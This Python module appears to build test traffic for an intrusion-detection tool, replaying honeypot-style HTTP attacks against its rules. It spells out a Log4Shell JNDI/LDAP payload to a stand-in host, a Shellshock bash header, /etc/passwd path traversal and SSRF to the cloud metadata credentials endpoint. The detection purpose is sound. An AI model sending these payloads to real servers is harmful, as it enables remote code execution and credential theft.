"""Attacks in plain HTTP, as honeypots see them: harmless copies of first messages. tmrx's rules catch each."""

from __future__ import annotations

from collections.abc import Iterator

from tmrx.interop.line import Line
from tmrx.interop.scenarios.http import Exchange, converse, pages, request, response
from tmrx.interop.scene import Scene, Timed, together

LDAP = "ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ="
# What the metadata service says of a role; AWS's own example keys (EC2 user guide, "Instance metadata").
KEYS = b"""{
  "Code" : "Success",
  "Type" : "AWS-HMAC",
  "AccessKeyId" : "ASIAIOSFODNN7EXAMPLE",
  "SecretAccessKey" : "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  "Token" : "none"
}"""
FORBIDDEN = response(b"forbidden\n", status="403 Forbidden")
NOT_FOUND = response(b"not found\n", status="404 Not Found")
SCANNER = {"User-Agent": "python-requests/2.31.0"}


def attacks() -> Iterator[tuple[int, Exchange]]:
    """The sid of tmrx's rule, what the attacker asks, and what the server answers."""
    yield 9000105, (request("/", headers={"User-Agent": "${jndi:" + LDAP + "}"}), response(b"ok"))
    hidden = "/search?q=${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/x}"
    yield 9000106, (request(hidden, headers=SCANNER), NOT_FOUND)
    bash = request("/cgi-bin/status", headers={"User-Agent": "() { :; }; /bin/bash -c 'id'"})
    yield 9000107, (bash, response(b"uid=33(www-data)\n"))
    passwd = response(b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n")
    yield 9000108, (request("/static/../../../../etc/passwd", headers=SCANNER), passwd)
    yield 9000109, (request("/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd", headers=SCANNER), FORBIDDEN)
    # Asked for the instance's keys, the server hands them out: also 9000103 for the path and 9000104 for the answer.
    role = "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web"
    yield 9000101, (request(role, headers=SCANNER), response(KEYS, "application/json"))
    yield 9000102, (request("/fetch?url=http://2852039166/latest/", headers=SCANNER), FORBIDDEN)
    yield 9000201, (request("/admin", headers={"Authorization": "Basic YWRtaW46aHVudGVyMg=="}), FORBIDDEN)


def play(scene: Scene) -> Iterator[Timed]:
    """The peer attacks the source, one connection an attempt; a visitor who means no harm comes first and last."""
    exchanges = [exchange for _, exchange in attacks()]
    everyday = list(pages("/"))
    talks = []
    for number, exchange in enumerate([*everyday, *exchanges, *everyday]):
        later = scene.later(number * 1.5 + scene.chance.uniform(0, 0.5))
        talks.append(converse(Line(later, scene.peer, scene.source), [exchange], port=8080))
    return together(*talks)
